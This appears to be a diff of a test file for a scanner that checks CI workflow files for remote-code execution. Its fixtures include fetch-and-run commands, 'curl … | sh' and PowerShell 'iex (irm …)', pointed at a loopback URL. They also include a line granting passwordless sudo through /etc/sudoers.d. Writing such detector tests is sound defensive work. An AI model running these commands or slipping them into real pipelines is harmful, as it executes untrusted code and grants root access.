@@ -1,8 +1,10 @@
 import { describe, expect, it } from 'vitest';
-import { isCi, readCi } from './ci-steps.ts';
+import { readYaml } from '../../formats/yaml/document.ts';
+import { kindOf, writtenAs } from './carriers.ts';
+import { CI_FILE, readCi } from './ci-steps.ts';
 import { judgeScript } from './scripts.ts';
 
-const CI = { buildsImage: false, hashComments: true, shell: 'ci' } as const;
+const judged = (text: string) => judgeScript(text, kindOf(writtenAs('.github/workflows/a.yml', text)));
 const U = 'http://127.0.0.1:9/x';
 const jobs = (steps: string, top = '') => `${top}jobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n${steps}`;
 
@@ -14,7 +16,7 @@ describe('what services that build a project hand to a shell', () => {
     ['config.yml', false],
     ['.github/dependabot.yml', false],
   ])('%s: %s', (path, expected) => {
-    expect(isCi(path)).toBe(expected);
+    expect(CI_FILE.test(path)).toBe(expected);
   });
 
   it('is read in its order, names first', () => {
@@ -22,7 +24,7 @@ describe('what services that build a project hand to a shell', () => {
       '    - run: a ${{ env.B }} ${{ github.sha }}\n      working-directory: c\n    - script: [d, e]\n    - uses: f',
       "env: {B: it's}\n",
     );
-    expect(readCi(text)).toEqual({
+    expect(readCi(readYaml(text))).toEqual({
       steps: [
         { text: "export B='it'\\''s'", own: false },
         { text: 'cd c\na ${B} ${GITHUB_EXPRESSION}', own: true },
@@ -30,8 +32,8 @@ describe('what services that build a project hand to a shell', () => {
       ],
       others: "B: it's\nruns-on: ubuntu-latest\na ${{ env.B }} ${{ github.sha }}\nworking-directory: c\nuses: f",
     });
-    expect(readCi('a: [')).toBeNull();
-    expect(readCi(`a: [${'x, '.repeat(30_000)}]`)).toBeNull();
+    expect(readCi(readYaml('a: ['))).toBeNull();
+    expect(readCi(readYaml(`a: [${'x, '.repeat(30_000)}]`))).toBeNull();
   });
 
   it.each([
@@ -44,7 +46,7 @@ describe('what services that build a project hand to a shell', () => {
     ['PowerShell', jobs(`    - shell: pwsh\n      run: iex (irm ${U})`), 'attacking-script'],
     ['what is no YAML', `a: b: c\nrun: curl ${U} | sh`, 'fetched-code'],
   ])('is followed through %s', (_, text, rule) => {
-    expect(judgeScript(text, CI)?.rule.id).toMatch(new RegExp(`^remote-code/(?:${rule})$`));
+    expect(judged(text)?.rule.id).toMatch(new RegExp(`^remote-code/(?:${rule})$`));
   });
 
   it.each([
@@ -54,6 +56,6 @@ describe('what services that build a project hand to a shell', () => {
     ['rights on a machine for one run', jobs('    - run: echo "a ALL=(ALL) NOPASSWD:ALL" | sudo tee /etc/sudoers.d/a')],
     ['lines of PowerShell', jobs('    - run: |\n        cmake -B b `\n          -G x').replace('ubuntu', 'windows')],
   ])('is minded no more than it must: %s', (_, text) => {
-    expect(judgeScript(text, CI)).toBeNull();
+    expect(judged(text)).toBeNull();
   });
 });
